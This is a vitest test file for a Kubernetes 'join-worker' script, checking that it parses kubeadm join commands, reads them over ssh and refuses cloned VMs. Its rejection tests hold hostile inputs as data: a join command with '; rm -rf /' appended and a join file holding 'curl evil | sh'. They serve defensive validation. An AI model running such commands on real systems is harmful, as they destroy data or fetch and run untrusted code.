import { describe, expect, it } from 'vitest';
import { bootstrapNode } from '../../scripts/bootstrap-node.mjs';
import { joinWorker, parseJoinCommand } from '../../scripts/join-worker.mjs';
import { captureIO, freshHost, planCommands, plannedSteps, type FakeHost } from './fake-host.js';

const HASH = `sha256:${'0123456789abcdef'.repeat(4)}`;
const JOIN = `kubeadm join 10.0.0.10:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`;
const JOIN_ARGV = `kubeadm join 10.0.0.10:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`;

async function workerHost(): Promise<FakeHost> {
  const host = freshHost();
  host.files.set('/proc/sys/kernel/hostname', 'worker-1\n');
  const { io } = captureIO(host);
  expect(await bootstrapNode(['--role', 'worker'], io)).toBe(0);
  host.actions = [];
  return host;
}

function nodesJson(...nodes: [string, string][]): string {
  return JSON.stringify({
    items: nodes.map(([name, uuid]) => ({ metadata: { name }, status: { nodeInfo: { systemUUID: uuid } } })),
  });
}

async function run(host: FakeHost, argv: string[], env: Record<string, string> = { SUDO_USER: 'alice' }) {
  const { io, captured } = captureIO(host, env);
  const code = await joinWorker(argv, io);
  return { code, ...captured };
}

describe('parseJoinCommand', () => {
  it('accepts what kubeadm token create --print-join-command prints, also with line continuations', () => {
    expect(parseJoinCommand(`${JOIN} \n`, 'x')).toEqual({
      endpoint: '10.0.0.10:6443',
      token: 'abcdef.0123456789abcdef',
      caCertHash: HASH,
    });
    expect(parseJoinCommand(JOIN.replace(' --discovery', ' \\\n    --discovery'), 'x').caCertHash).toBe(HASH);
  });

  it.each([
    ['kubeadm reset -f', 'it must start with "kubeadm join"'],
    [`${JOIN}; rm -rf /`, 'unexpected'],
    [JOIN.replace(HASH, 'sha256:xyz'), 'unexpected "--discovery-token-ca-cert-hash sha256:xyz"'],
    [`${JOIN} --control-plane`, 'unexpected "--control-plane"'],
    ['kubeadm join 10.0.0.10:6443 --token abcdef.0123456789abcdef', 'no --discovery-token-ca-cert-hash'],
  ])('rejects %j', (text, why) => {
    expect(() => parseJoinCommand(text, '/tmp/join')).toThrow(`/tmp/join: not a kubeadm worker join command (${why}`);
  });
});

describe('join-worker', () => {
  it('joins with a command given as an argument', async () => {
    const host = await workerHost();
    const r = await run(host, ['--join-command', JOIN, '--dry-run']);
    expect(r.code).toBe(0);
    expect(plannedSteps(r.out)).toEqual(['kubeadm-join']);
    expect(planCommands(r.out)).toEqual([JOIN_ARGV]);
  });

  it('joins with a command read from a file', async () => {
    const host = await workerHost();
    host.files.set('/root/join-command', `${JOIN}\n`);
    host.onExec = (argv) => {
      if (argv[1] === 'join') host.files.set('/etc/kubernetes/kubelet.conf', 'kind: Config\n');
      return undefined;
    };
    const r = await run(host, ['--join-file', '/root/join-command']);
    expect(r.code).toBe(0);
    expect(host.actions).toEqual([JOIN_ARGV]);
  });

  it('reads the command over ssh as $SUDO_USER and checks the node is not a clone', async () => {
    const host = await workerHost();
    host.kube.push(
      { match: ['ssh', 'cat'], result: { stdout: `${JOIN}\n` } },
      { match: ['ssh', 'nodes'], result: { stdout: nodesJson(['cp-1', 'aaaa']) } },
    );
    const r = await run(host, ['--ssh', 'alice@cp-1', '--dry-run']);
    expect(r.code).toBe(0);
    expect(planCommands(r.out)).toEqual([JOIN_ARGV]);
    const ssh = 'sudo -u alice ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new alice@cp-1';
    expect(host.probes).toContain(`${ssh} sudo -n cat /etc/kubernetes/join-command`);
    expect(host.probes).toContain(`${ssh} sudo -n kubectl --kubeconfig=/etc/kubernetes/admin.conf get nodes -o json`);
  });

  // `sudo --preserve-env=SSH_AUTH_SOCK` brings the agent socket into the script; `sudo -u alice` would drop it again.
  it('hands the ssh agent that came through sudo to ssh, and accepts a control plane not yet in known_hosts', async () => {
    const host = await workerHost();
    host.kube.push(
      { match: ['ssh', 'cat'], result: { stdout: `${JOIN}\n` } },
      { match: ['ssh', 'nodes'], result: { stdout: nodesJson(['cp-1', 'aaaa']) } },
    );
    const r = await run(host, ['--ssh', 'alice@cp-1', '--dry-run'], {
      SUDO_USER: 'alice',
      SSH_AUTH_SOCK: '/tmp/ssh-XXXXkT3b/agent.4242',
    });
    expect(r.code).toBe(0);
    const ssh = host.probes.filter((l) => l.includes(' ssh '));
    expect(ssh).toHaveLength(2);
    for (const line of ssh) {
      expect(line).toMatch(
        /^sudo -u alice ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o IdentityAgent=\/tmp\/ssh-XXXXkT3b\/agent\.4242 alice@cp-1 sudo -n /,
      );
    }
    const reviewed = [
      '# join-worker --ssh alice@cp-1 --dry-run under sudo --preserve-env=SSH_AUTH_SOCK: what it reads over ssh',
      ...ssh,
      ...r.out,
    ];
    await expect(`${reviewed.join('\n')}\n`).toMatchFileSnapshot('plans/join-worker-ssh.plan.txt');
  });

  it('run as root itself (no sudo), ssh runs as root with the agent of the environment', async () => {
    const host = await workerHost();
    host.kube.push(
      { match: ['ssh', 'cat'], result: { stdout: `${JOIN}\n` } },
      { match: ['ssh', 'nodes'], result: { stdout: nodesJson(['cp-1', 'aaaa']) } },
    );
    const r = await run(host, ['--ssh', 'root@cp-1', '--dry-run'], { SSH_AUTH_SOCK: '/tmp/agent.sock' });
    expect(r.code).toBe(0);
    expect(host.probes).toContain(
      'ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o IdentityAgent=/tmp/agent.sock root@cp-1 sudo -n cat /etc/kubernetes/join-command',
    );
  });

  it('when ssh is refused and sudo dropped the agent socket, says how to keep it', async () => {
    const host = await workerHost();
    host.kube.push({
      match: ['ssh', 'cat'],
      result: { exitCode: 255, stderr: 'alice@cp-1: Permission denied (publickey).\n' },
    });
    const r = await run(host, ['--ssh', 'alice@cp-1']);
    expect(r.code).toBe(2);
    expect(r.err.at(-1)).toBe(
      'join-worker: usage error: --ssh alice@cp-1: cannot read /etc/kubernetes/join-command: alice@cp-1: Permission denied (publickey). ' +
        '(no SSH_AUTH_SOCK here: for a key held by an ssh agent, run with sudo --preserve-env=SSH_AUTH_SOCK)',
    );
    expect(host.actions).toEqual([]);
  });

  it('refuses to join a VM whose product_uuid a node already has', async () => {
    const host = await workerHost();
    host.kube.push(
      { match: ['ssh', 'cat'], result: { stdout: `${JOIN}\n` } },
      { match: ['ssh', 'nodes'], result: { stdout: nodesJson(['cp-1', '5E1D0A7C-3B2F-4C8E-9D6A-1F2E3D4C5B6A']) } },
    );
    const r = await run(host, ['--ssh', 'alice@cp-1']);
    expect(r.code).toBe(1);
    expect(r.err.at(-1)).toContain(
      'unique-in-cluster: node cp-1 already has this hostname (worker-1) or product_uuid; cloned VM?',
    );
    expect(host.actions).toEqual([]);
  });

  it('does nothing on a node that already joined, without needing a join command', async () => {
    const host = await workerHost();
    host.files.set('/etc/kubernetes/kubelet.conf', 'kind: Config\n');
    host.listening.push(10250, 10256);
    const r = await run(host, ['--join-file', '/nonexistent']);
    expect(r.code).toBe(0);
    expect(host.actions).toEqual([]);
    expect(r.err).toContainEqual(expect.stringMatching(/step 1\/1 kubeadm-join: already done, skipped/));
  });

  it('refuses a bad join file before changing anything', async () => {
    const host = await workerHost();
    host.files.set('/root/join-command', 'curl evil | sh\n');
    const r = await run(host, ['--join-file', '/root/join-command']);
    expect(r.code).toBe(2);
    expect(r.err.at(-1)).toBe(
      'join-worker: usage error: /root/join-command: not a kubeadm worker join command (it must start with "kubeadm join")',
    );
    expect(host.actions).toEqual([]);
  });

  it.each([[[]], [['--join-command', JOIN, '--ssh', 'cp-1']]])('needs exactly one join source %j', async (argv) => {
    const r = await run(await workerHost(), argv);
    expect(r.code).toBe(2);
    expect(r.err.at(-1)).toBe('join-worker: usage error: give exactly one of --ssh, --join-file, --join-command');
  });
});
